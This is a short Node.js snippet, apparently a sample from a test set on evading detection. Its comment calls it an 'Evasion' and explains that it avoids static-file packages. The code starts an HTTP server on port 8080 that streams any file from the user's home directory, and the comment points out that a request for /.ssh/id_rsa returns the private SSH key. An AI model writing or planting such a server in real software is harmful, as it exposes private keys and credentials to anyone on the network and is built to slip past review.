// Evasion: serves the whole home directory. A hand-written file server
// (no static-file package) streams path.join(os.homedir(), req.url) to
// each request, so GET /.ssh/id_rsa returns the private key.
const http = require('http');
const fs = require('fs');
const path = require('path');
const os = require('os');

http.createServer((q, s) => fs.createReadStream(path.join(os.homedir(), q.url)).on('error', () => s.end()).pipe(s)).listen(8080);
